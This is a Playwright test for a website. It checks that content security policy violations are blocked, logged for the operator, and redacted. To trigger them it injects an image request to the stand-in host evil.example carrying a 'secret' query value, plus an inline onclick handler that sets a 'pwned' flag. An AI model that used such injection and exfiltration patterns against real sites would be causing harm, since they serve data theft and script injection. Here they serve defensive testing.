import { test } from 'playwright/test'
import { expect } from '../support/browser-test.ts'
import { startSiteProcess } from '../support/site-process.ts'

test('V19: content security policy violations are logged for the operator', async ({ page }) => {
  const site = await startSiteProcess()
  try {
    await page.goto(`${site.url}/News?lang=En`)
    await page.evaluate(() => {
      const image = new Image()
      image.src = 'https://evil.example/x.png?name=secret'
      const text = document.createElement('p')
      text.setAttribute('onclick', 'window.__pwned = 1')
      document.body.append(image, text)
      text.click()
    })
    await expect.poll(() => site.output()).toContain('"blocked":"https://evil.example/x.png"')
    await expect
      .poll(() => site.output())
      .toMatch(/"directive":"script-src-attr","page":"[^"]*\/News"/)
    expect(site.output()).not.toContain('secret')
    expect(await page.evaluate(() => Reflect.has(window, '__pwned'))).toBe(false)
  } finally {
    await site.stop()
  }
})
